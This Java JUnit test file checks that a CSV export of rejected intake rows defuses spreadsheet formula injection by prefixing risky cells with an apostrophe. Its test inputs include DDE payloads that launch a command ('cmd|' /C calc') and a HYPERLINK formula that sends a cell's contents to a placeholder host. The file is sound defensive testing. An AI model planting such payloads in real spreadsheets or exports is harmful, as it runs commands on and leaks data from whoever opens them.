package org.threadline.intake.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class RejectedRowsCsvTest {

    @ParameterizedTest(name = "''{0}'' is exported as ''{1}''")
    @CsvSource(delimiter = '#', quoteCharacter = '~', value = {
        "=HYPERLINK(\"http://x/?\"&A1,\"Click\")#'=HYPERLINK(\"http://x/?\"&A1,\"Click\")",
        "+44 121 496 0000#'+44 121 496 0000",
        "-2+3+cmd|' /C calc'!A0#'-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)#'@SUM(A1:A2)",
        "＝1+1#'＝1+1",
        "SMITH#SMITH",
        "O'Brien#O'Brien",
        "a=b#a=b"})
    void a_cell_a_spreadsheet_would_run_is_written_behind_an_apostrophe(String cell, String exported) {
        assertThat(SpreadsheetSafe.neutralise(cell)).isEqualTo(exported);
    }

    @Test
    void tabs_carriage_returns_and_blanks_are_handled() {
        assertThat(SpreadsheetSafe.neutralise("\tcmd")).isEqualTo("'\tcmd");
        assertThat(SpreadsheetSafe.neutralise("\r=1")).isEqualTo("'\r=1");
        assertThat(SpreadsheetSafe.neutralise(" =1")).as("only the first character counts").isEqualTo(" =1");
        assertThat(SpreadsheetSafe.neutralise("")).isEmpty();
        assertThat(SpreadsheetSafe.neutralise(null)).isEmpty();
    }

    @Test
    void quarantined_rows_are_written_with_their_row_reasons_and_cells_under_the_files_header_all_neutralised()
            throws Exception {
        StringWriter out = new StringWriter();
        try (RejectedRowsCsv csv = new RejectedRowsCsv(out, List.of("REF", "SURNAME", "=HEADER"))) {
            csv.write(3, "", Map.of("date_of_birth", "required column DOB is missing"),
                    List.of("A1", "=cmd|' /C calc'!A0", "x"));
            csv.write(7, "Sheet1", Map.of("row", "has 4 cells where the header has 3"),
                    List.of("A2", "SMITH, \"JOHN\"\nline 2", "@x", "+extra"));
        }

        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(out.toString())).getRecords();

        assertThat(records).hasSize(3);
        assertThat(records.get(0).toList()).containsExactly("row", "sheet", "reasons", "REF", "SURNAME", "'=HEADER");
        assertThat(records.get(1).toList()).containsExactly("3", "", "date_of_birth: required column DOB is missing",
                "A1", "'=cmd|' /C calc'!A0", "x");
        assertThat(records.get(2).toList()).containsExactly("7", "Sheet1", "row: has 4 cells where the header has 3",
                "A2", "SMITH, \"JOHN\"\nline 2", "'@x", "'+extra");
    }
}
